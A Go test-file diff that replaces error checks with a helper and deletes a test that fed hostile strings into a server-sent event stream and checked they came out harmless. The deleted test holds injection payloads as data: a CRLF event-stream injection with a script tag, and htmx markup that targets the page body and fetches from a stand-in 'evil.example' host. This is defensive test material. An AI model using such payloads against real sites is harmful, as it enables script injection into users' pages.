@@ -32,17 +32,13 @@ func follow(t *testing.T, base, path, last string) *reader {
 	t.Helper()
 	ctx, cancel := context.WithCancel(t.Context())
 	request, err := http.NewRequestWithContext(ctx, http.MethodGet, base+path, nil)
-	if err != nil {
-		t.Fatal(err)
-	}
+	must(t, err)
 	if last != "" {
 		request.Header.Set("Last-Event-ID", last)
 	}
 	apitest.Authorize(request)
 	response, err := http.DefaultClient.Do(request)
-	if err != nil {
-		t.Fatal(err)
-	}
+	must(t, err)
 	if got := response.Header.Get("Content-Type"); response.StatusCode != http.StatusOK || !strings.HasPrefix(got, "text/event-stream") {
 		t.Fatalf("%s: status %d, %s", path, response.StatusCode, got)
 	}
@@ -228,21 +224,6 @@ func TestStreamsEndWithTheServer(t *testing.T) {
 	case <-time.After(time.Minute):
 		t.Error("the stream stays open")
 	}
-}
-
-func TestHostileOutputIsHarmlessInAStream(t *testing.T) {
-	s := newSite(t)
-	base := served(t, s)
-	_, ids := s.Chain(ops.NewCycle{}, "", "", apitest.Run{Tier: 1, Status: ops.SessionRunning})
-	stream := follow(t, base, fmt.Sprintf("/sessions/%d/stream?after=0", ids[0]), "")
-	for _, text := range append(hostile(), "a\r\ndata: <script>\r\n\r\nevent: x", `<hx-partial hx-target="body">`,
-		`<div hx-get="//evil.example" hx-trigger="load">`) {
-		s.Say(ids[0], said(text), text, call(text, text), answered(text, text, true))
-	}
-	s.Say(ids[0], said("the end."))
-	got := stream.until("the end.")
-	got = strings.ReplaceAll(got, `<hx-partial hx-target="#`, "")
-	mustBeHarmless(t, got)
 }
 
 func TestAnUnknownSessionHasNoStream(t *testing.T) {
